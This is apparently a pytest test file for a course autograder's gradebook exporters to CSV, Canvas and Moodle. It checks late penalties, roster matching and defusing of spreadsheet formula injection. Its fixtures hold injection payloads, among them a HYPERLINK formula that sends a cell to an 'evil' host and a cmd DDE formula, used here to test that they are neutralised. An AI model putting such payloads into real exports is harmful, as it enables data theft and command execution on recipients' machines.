"""Grades for Canvas, Moodle and others: read back as those systems read them."""

import csv
import io
import logging
import re
import shutil
import subprocess
import sys
from datetime import datetime, timedelta
from pathlib import Path

import pytest
from nbgrader.api import Gradebook
from traitlets.config import Config

from autograder.gradebook import extensions
from autograder.gradebook.book import Scores
from autograder.gradebook.canvas_export import CanvasExporter
from autograder.gradebook.csv_export import CsvExporter
from autograder.gradebook.exporter import Exporter, harmless
from autograder.gradebook.late import LatePolicy
from autograder.gradebook.moodle_export import MoodleExporter
from autograder.records import FAILED, GRADED, INFRASTRUCTURE_ERROR, PASSED, Report, Result
from autograder.submissions import exercises

DUE = datetime(2026, 5, 1, 12)
FORMULA = '=HYPERLINK("http://evil/?"&A1,"Ada")'
LATE = Config({"AssignLatePenalties": {"plugin_class": LatePolicy}, "LatePolicy": {"percent_per_day": 10}})


def report(student: str, assignment: str, lost: int = 0) -> Report:
    """The first `lost` of the hidden tests failed."""
    tests = [
        Result(
            test.id, test.title, FAILED if number < lost else PASSED, 0 if number < lost else test.points, test.points
        )
        for number, test in enumerate(exercises.load(assignment).tests)
    ]
    return Report(
        student, assignment, GRADED, sum(t.points for t in tests), sum(t.max_points for t in tests), 1, 0.0, tests=tests
    )


@pytest.fixture(scope="module")
def filled(tmp_path_factory) -> Path:
    """A gradebook: ada has all points, bob is late by two days, cy waits, dee handed in one thing, eve nothing."""
    path = tmp_path_factory.mktemp("filled") / "gradebook.db"
    url = f"sqlite:///{path}"
    with Scores(url) as scores:
        for student in ("ada", "bob", "cy"):
            scores.write(report(student, "calculator"))
            scores.write(report(student, "services", lost=1))
        scores.write(report("dee", "services"))
        scores.write(Report("fay", "calculator", INFRASTRUCTURE_ERROR, None, 20, 1, 0.0))
    with Gradebook(url) as book:
        book.update_or_create_assignment("calculator", duedate=DUE)
        book.update_or_create_submission("calculator", "bob", timestamp=DUE + timedelta(hours=30))
        book.find_grade("calculator-server", "calculator", "calculator", "cy").needs_manual_grade = True
        book.update_or_create_student("ada", email="ada@uni.edu", last_name=FORMULA, first_name="a,b\n;=1+1")
        book.update_or_create_student("bob", email="-bob@uni.edu", last_name="Bob", lms_user_id="4711")
        book.update_or_create_student("cy", email="cy@uni.edu", first_name="Čy 🤖")
        book.update_or_create_student("dee", email="=cmd|'/c calc'!A0@uni.edu", last_name="+Dee")
        book.update_or_create_student("eve", email="eve@uni.edu")
    return path


@pytest.fixture
def book(filled, tmp_path):
    """A copy of the gradebook."""
    shutil.copy(filled, tmp_path)
    with Gradebook(f"sqlite:///{tmp_path / 'gradebook.db'}") as book:
        yield book


def exported(exporter: Exporter, book: Gradebook, tmp_path: Path) -> list[list[str]]:
    """The lines of the file, by the rules that both systems read it with; no cell is a formula."""
    exporter.to = str(tmp_path / "out.csv")
    exporter.export(book)
    raw = (tmp_path / "out.csv").read_bytes()
    assert not raw.startswith(b"\xef\xbb\xbf")
    lines = list(csv.reader(io.StringIO(raw.decode(), newline="")))
    assert {len(line) for line in lines} == {len(lines[0])}
    for cell in re.split(r'[,;\t\n]"?', raw.decode()):  # whatever a spreadsheet takes for the separator
        assert not cell.lstrip().startswith(("=", "+", "@")) or re.fullmatch(r"[-+@][\w.@+-]*", cell), cell
    return lines


def column(lines: list[list[str]], key: str, value: str) -> dict[str, str]:
    header = lines[0]
    return {line[header.index(key)]: line[header.index(value)] for line in lines[1:]}


SERVICES = sum(test.points for test in exercises.load("services").tests)
FIRST = exercises.load("services").tests[0].points


def test_questions_that_the_gradebook_lacks_are_told(book, tmp_path, caplog):
    """Outside of a course folder it has the cells of the tests alone, and a grade looks complete without the others."""
    points = exercises.points_by_hand("calculator")
    told = f"calculator: without the {points:g} points for answers that are marked by hand"
    exported(CsvExporter(automatic=True), book, tmp_path)
    assert told not in caplog.text
    exported(CsvExporter(), book, tmp_path)
    assert points and told in caplog.text
    caplog.clear()
    book.update_or_create_grade_cell("why", "calculator", "calculator", max_score=points, cell_type="markdown")
    exported(CsvExporter(), book, tmp_path)
    assert told not in caplog.text


def test_plain(book, tmp_path, caplog):
    with caplog.at_level(logging.INFO):
        lines = exported(CsvExporter(config=LATE), book, tmp_path)
    table = {
        (line["student_id"], line["assignment"]): line
        for line in (dict(zip(lines[0], x, strict=True)) for x in lines[1:])
    }
    assert len(table) == len(lines) - 1 == 10
    bob = table["bob", "calculator"]
    assert (bob["raw_score"], bob["late_submission_penalty"], bob["score"], bob["max_score"], bob["days_late"]) == (
        "20",
        "4",
        "16",
        "20",
        "1.25",
    )
    assert (table["cy", "calculator"]["score"], table["cy", "calculator"]["needs_manual_grade"]) == ("", "True")
    assert table["cy", "calculator"]["raw_score"] == "20"
    assert table["eve", "services"]["state"] == "not handed in" and table["eve", "services"]["score"] == ""
    assert table["ada", "services"]["score"] == f"{SERVICES - FIRST:g}"
    assert (
        table["ada", "services"]["last_name"] == f"'{FORMULA}" and table["ada", "services"]["first_name"] == "a,b  =1+1"
    )
    assert "calculator: 2 grades; left empty: 1 waiting for marks, 2 not handed in" in caplog.text


def test_what_was_handed_in_and_is_not_graded_yet_gets_no_0(book, tmp_path, caplog):
    """As after a grading that was killed, or a hand-in that was collected later."""
    for student in ("eve", "fay"):  # fay is not in the gradebook
        (tmp_path / "submitted" / student / "services").mkdir(parents=True)
    config = Config()
    config.CourseDirectory.root = str(tmp_path)
    exporter = CsvExporter(config=config)
    exporter.not_handed_in = "0"
    with caplog.at_level(logging.INFO):
        lines = exported(exporter, book, tmp_path)
    rows = [dict(zip(lines[0], line, strict=True)) for line in lines[1:]]
    states = {row["assignment"]: (row["state"], row["score"]) for row in rows if row["student_id"] == "eve"}
    assert states == {"calculator": ("not handed in", "0"), "services": ("not graded yet", "")}
    assert "services: handed in, but not graded yet: eve. Grade, and export again" in caplog.text
    assert "services: handed in, not graded yet, and not in the gradebook: fay. Grade, and export again" in caplog.text
    assert "fay" not in {row["student_id"] for row in rows}


def test_days_late_are_0_only_in_time_and_count_the_extension(book, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)  # nbgrader's commands find the course's extensions here
    (tmp_path / "nbgrader_config.py").touch()

    def days_late(late: timedelta) -> str:
        book.update_or_create_submission("calculator", "bob", timestamp=DUE + late)
        lines = exported(CsvExporter(config=LATE, assignment=["calculator"]), book, tmp_path)
        return column(lines, "student_id", "days_late")["bob"]

    known = [days_late(timedelta(seconds=seconds)) for seconds in (-60, 0, 1, 180, 3 * 3600, 36 * 3600)]
    assert known == ["0", "0", "0.0001", "0.0021", "0.125", "1.5"]
    extensions.change(tmp_path, ["bob"], "calculator", 1.0)
    assert [days_late(timedelta(hours=hours)) for hours in (24, 36)] == ["0", "0.5"]


def test_penalties_are_left_alone_where_no_policy_is_set(book, tmp_path):
    exported(CsvExporter(config=LATE), book, tmp_path)
    lines = exported(CsvExporter(), book, tmp_path)
    assert [line[9] for line in lines if line[3] == "bob"] == ["4", "0"]


def roster(
    tmp_path: Path,
    *lines: str,
    first: str = "Essay (54)",
    calculator: str = "Calculator (55)",
    possible: str = "20",
    bom: str = "",
    separator: str = ",",
) -> str:
    """A gradebook as Canvas exports it."""
    columns = ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", first, calculator, "Current Score"]
    points = ["    Points Possible", "", "", "", "", "10.00", possible, "(read only)"]
    posting = ["", "", "", "", "", "", "Manual Posting", ""]
    text = "\n".join(separator.join(line) for line in (columns, posting, points)) + "\n" + "\n".join(lines) + "\n"
    path = tmp_path / "roster.csv"
    path.write_bytes((bom + text).encode())
    return str(path)


ADA, BOB = '"=HYPERLINK(""http://evil"")",101,S1,ada,"Sec 1",7.00,3.00,50', '"Builder, Bob",102,4711,@bob,Sec 1,6,,60'
CY, DEE = '"Ĉy",103,S3,CY@uni.edu,Sec 1,,15.00,', '"Dee",104,S4,dee,Sec 1,,EX,'
TEST = '"Student, Test",999,,ffff,Sec 1,,12.00,'


def test_canvas(book, tmp_path, caplog):
    with caplog.at_level(logging.INFO):
        lines = exported(CanvasExporter(roster=roster(tmp_path, ADA, BOB, CY, DEE, TEST), config=LATE), book, tmp_path)
    assert lines[0] == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "Calculator (55)", "services"]
    assert lines[1] == ["    Points Possible", "", "", "", "", "20", f"{SERVICES:g}"]
    # Who waits, has handed in nothing or is not of this course keeps what Canvas has.
    assert column(lines[:1] + lines[2:], "ID", "Calculator (55)") == {
        "101": "20",
        "102": "16",
        "103": "15.00",
        "104": "EX",
        "999": "12.00",
    }
    assert column(lines[:1] + lines[2:], "ID", "services") == {
        "101": f"{SERVICES - FIRST:g}",
        "102": f"{SERVICES - FIRST:g}",
        "103": f"{SERVICES - FIRST:g}",
        "104": f"{SERVICES:g}",
        "999": "",
    }
    assert lines[2][0].startswith("'=") and lines[3][3] == "'@bob" and lines[4][0] == "Ĉy"
    assert "1 student without a line in the file, because" in caplog.text and "does not have them: eve" in caplog.text
    assert "services is not in" in caplog.text and "new assignment" in caplog.text
    assert "1 of 5 students" in caplog.text and "Canvas has" not in caplog.text


@pytest.mark.parametrize("how", [{"bom": "\ufeff"}, {"possible": "20,00", "separator": ";"}])
def test_canvas_writes_its_file_in_more_ways_than_one(book, tmp_path, how):
    ada = ADA.replace(",", ";") if "separator" in how else ADA
    lines = exported(CanvasExporter(roster=roster(tmp_path, ada, **how)), book, tmp_path)
    assert lines[0][5:] == ["Calculator (55)", "services"] and lines[2][1] == "101" and lines[2][5] == "20"


def test_canvas_says_when_points_differ(book, tmp_path, caplog):
    exported(CanvasExporter(roster=roster(tmp_path, ADA, possible="10.00")), book, tmp_path)
    assert "calculator: Canvas has 10.00 points possible, the gradebook 20" in caplog.text


def test_canvas_column_of_another_name(book, tmp_path):
    options = {
        "roster": roster(tmp_path, ADA, calculator="Exercise 5 (55)"),
        "columns": {"calculator": "Exercise 5 (55)"},
    }
    lines = exported(CanvasExporter(**options), book, tmp_path)
    assert lines[0][5:] == ["Exercise 5 (55)", "services"] and lines[2][5] == "20"


def test_canvas_never_guesses_between_two(book, tmp_path, caplog):
    """Bob's LMS id is the SIS id of one line and the login of another; ada's and eve's ids are one line's."""
    other = '"Other",105,S5,4711,Sec 1,,,'
    both = '"Both",106,ada,eve@uni.edu,Sec 1,,,'
    lines = exported(CanvasExporter(roster=roster(tmp_path, BOB, other, both)), book, tmp_path)
    assert [line[5] for line in lines[2:]] == ["", "", ""]
    assert re.search(
        r"3 students without a line in the file, because they match several lines.*: ada, bob, eve\n", caplog.text
    )


@pytest.mark.parametrize(
    ("make", "message"),
    [
        (lambda path: "", "export the gradebook from Canvas, and give the file"),
        (lambda path: str(path / "none.csv"), "cannot be read"),
        (lambda path: str(path / "gradebook.db"), "is no gradebook exported from Canvas|cannot be read"),
        (lambda path: roster(path, '"No Id",,S1,ada,Sec 1,,,'), "line 4 of .* has no student ID"),
        (
            lambda path: roster(path, f'"{"x" * 200_000}",101'),
            "is not a gradebook exported from Canvas: field larger than",
        ),
        (lambda path: roster(path, ADA, first="calculator (54)"), "has 2 columns for calculator: choose one"),
    ],
)
def test_canvas_refuses(book, tmp_path, make, message):
    exporter = CanvasExporter(roster=make(tmp_path), to=str(tmp_path / "out.csv"))
    with pytest.raises(SystemExit, match=message):
        exporter.export(book)
    assert not (tmp_path / "out.csv").exists()


def test_canvas_keeps_the_file_that_it_was_given(book, tmp_path):
    path = Path(roster(tmp_path, ADA))
    before = path.read_bytes()
    with pytest.raises(SystemExit, match="would be overwritten: choose another name"):
        CanvasExporter(roster=str(path), to=str(path)).export(book)
    assert path.read_bytes() == before


def test_moodle(book, tmp_path, caplog):
    with caplog.at_level(logging.INFO):
        lines = exported(MoodleExporter(config=LATE), book, tmp_path)
    assert lines[0] == ["username", "calculator", "services"]
    assert column(lines, "username", "calculator") == {"ada": "20", "bob": "16", "cy": "", "dee": ""}
    assert column(lines, "username", "services")["dee"] == f"{SERVICES:g}"
    assert "1 student without a line in the file, because there is no grade to export: eve" in caplog.text


def test_moodle_by_email_leaves_out_what_would_be_run(book, tmp_path, caplog):
    lines = exported(MoodleExporter(user="email"), book, tmp_path)
    assert [line[0] for line in lines] == ["email", "ada@uni.edu", "-bob@uni.edu", "cy@uni.edu"]
    why = "because a spreadsheet would take their email for a formula or for several cells"
    assert f"1 student without a line in the file, {why}: dee" in caplog.text
    book.update_or_create_student("ada", email="")
    exported(MoodleExporter(user="email"), book, tmp_path)
    why = "because neither the roster (column 'email') nor the gradebook has their email"
    assert f"1 student without a line in the file, {why}: ada" in caplog.text


@pytest.mark.parametrize(
    ("email", "kept"),
    [("-ada@uni.edu", True), ("+491234", True), ("-ada", True), ("@ada-b+c@uni.edu", True), ("@SUM", True)]
    + [(email, False) for email in ("+1-1", "-A1", "+1+A1@", "-1@2-3")],
)
def test_moodle_writes_a_name_that_looks_like_a_formula_only_if_it_is_none(book, tmp_path, email, kept):
    book.update_or_create_student("ada", email=email)
    lines = exported(MoodleExporter(user="email"), book, tmp_path)
    assert (email in [line[0] for line in lines]) is kept


def test_moodle_by_idnumber_with_feedback(book, tmp_path):
    book.update_or_create_student("cy", lms_user_id="")
    comment = book.find_submission_notebook("calculator", "calculator", "bob").comments
    assert comment == []
    lines = exported(MoodleExporter(user="idnumber", feedback=True, config=LATE), book, tmp_path)
    assert lines[0] == ["idnumber", "calculator", "calculator (feedback)", "services", "services (feedback)"]
    assert ["4711", "16", "Handed in late: 4 points off.", f"{SERVICES - FIRST:g}", ""] in lines
    assert column(lines, "idnumber", "calculator")["cy"] == ""
    book.update_or_create_student("ada", lms_user_id="4711")
    with pytest.raises(SystemExit, match="ada and bob have the same idnumber, 4711"):
        MoodleExporter(user="idnumber").export(book)


def test_one_assignment_and_one_student(book, tmp_path):
    lines = exported(MoodleExporter(assignment=["calculator"], student=["ada"]), book, tmp_path)
    assert lines == [["username", "calculator"], ["ada", "20"]]
    with pytest.raises(SystemExit, match="the gradebook has no student 'adda'"):
        MoodleExporter(student=["adda"]).export(book)


@pytest.mark.parametrize(
    "text", ["=1", " =1", "\t=1", "\r\n@x", "+1", "-1", "\uff1d1", "\uff20x", "\0=1", "\u00a0-1", "x;=1", "x\t=1"]
)
def test_harmless(text):
    assert re.match(r"'|x", harmless(text)) and ";" not in harmless(text)


def test_harmless_changes_nothing_else():
    for name in ("", "Ada", "O'Neil, Ann-Marie", "李小龍", "ada@uni.edu", "a=b", "N/A"):
        assert harmless(name) == name


def test_on_nbgraders_command_line(book, tmp_path):
    command = [
        str(Path(sys.executable).with_name("nbgrader")),
        "export",
        "--exporter",
        "autograder.gradebook.canvas_export.CanvasExporter",
        f"--CanvasExporter.roster={roster(tmp_path, ADA)}",
        "--to",
        "canvas.csv",
        "--db",
        f"sqlite:///{tmp_path / 'gradebook.db'}",
    ]
    done = subprocess.run(command, cwd=tmp_path, capture_output=True, text=True)
    assert done.returncode == 0 and "Exported to canvas.csv" in done.stderr and "Unrecognized" not in done.stderr
    assert "4 students without a line in the file" in done.stderr
    assert (tmp_path / "canvas.csv").read_text().splitlines()[2].split(",")[-2] == "20"
    done = subprocess.run(
        [part for part in command if "roster" not in part], cwd=tmp_path, capture_output=True, text=True
    )
    assert done.returncode == 1 and done.stderr.splitlines()[-1].startswith(
        "autograder: export the gradebook from Canvas, and give the file: --CanvasExporter.roster=FILE"
    )
    assert "--CanvasExporter.automatic=True exports the points of the tests" in done.stderr
